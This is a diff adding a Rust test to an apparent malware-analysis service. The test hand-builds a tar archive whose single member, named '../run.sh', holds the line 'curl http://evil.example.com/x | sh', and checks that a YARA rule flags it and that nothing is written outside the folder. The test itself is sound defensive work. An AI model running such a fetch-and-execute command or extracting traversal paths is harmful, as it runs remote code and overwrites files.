@@ -159,3 +159,39 @@ fn a_corpus_travels_as_a_file() {
     std::fs::write(&broken, "{").unwrap();
     assert_eq!(malkin(&["import", &broken, "--data", &to]).status.code(), Some(1));
 }
+
+#[test]
+fn an_archive_is_opened_and_its_members_have_records() {
+    let folder = tempfile::tempdir().unwrap();
+    let rules = folder.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::write(rules.join("a.yar"), r#"rule curl_pipe { strings: $a = "| sh" condition: $a }"#).unwrap();
+    std::fs::write(rules.join("b.yar"), "rule {").unwrap();
+    let server = Server::start(&folder.path().join("data"), &["--rules", rules.to_str().unwrap()]);
+    // A tar with one member, written by hand: the header's numbers are octal text, its sum counts itself as blanks.
+    let content = b"curl http://evil.example.com/x | sh";
+    let mut header = [0_u8; 512];
+    header[..9].copy_from_slice(b"../run.sh");
+    header[100..107].copy_from_slice(b"0000644");
+    header[124..135].copy_from_slice(format!("{:011o}", content.len()).as_bytes());
+    header[136..147].copy_from_slice(b"00000000000");
+    header[148..156].copy_from_slice(b"        ");
+    header[156] = b'0';
+    header[257..263].copy_from_slice(b"ustar\0");
+    header[263..265].copy_from_slice(b"00");
+    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
+    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    let mut archive = header.to_vec();
+    archive.extend(content);
+    archive.resize(2048, 0);
+    let (status, record) = upload(&server, "/analyze/upload", "x.tar", &archive);
+    assert_eq!(status, 200, "{record}");
+    assert_eq!(record["facts"]["kind"], "tar");
+    let child = &record["children"][0];
+    assert_eq!((&child["path"], &child["score"]), (&json!("../run.sh"), &json!(15)), "{record}");
+    let inner = server.get(&format!("/analyses/{}", child["id"].as_str().unwrap())).body;
+    assert_eq!(inner["facts"]["yara"][0]["rule"], "curl_pipe");
+    assert_eq!(inner["verdict"]["reasons"][0]["fact"], "facts.yara[0]");
+    assert_eq!(server.get("/analyses").body["total"], 2);
+    assert!(!folder.path().join("run.sh").exists());
+}
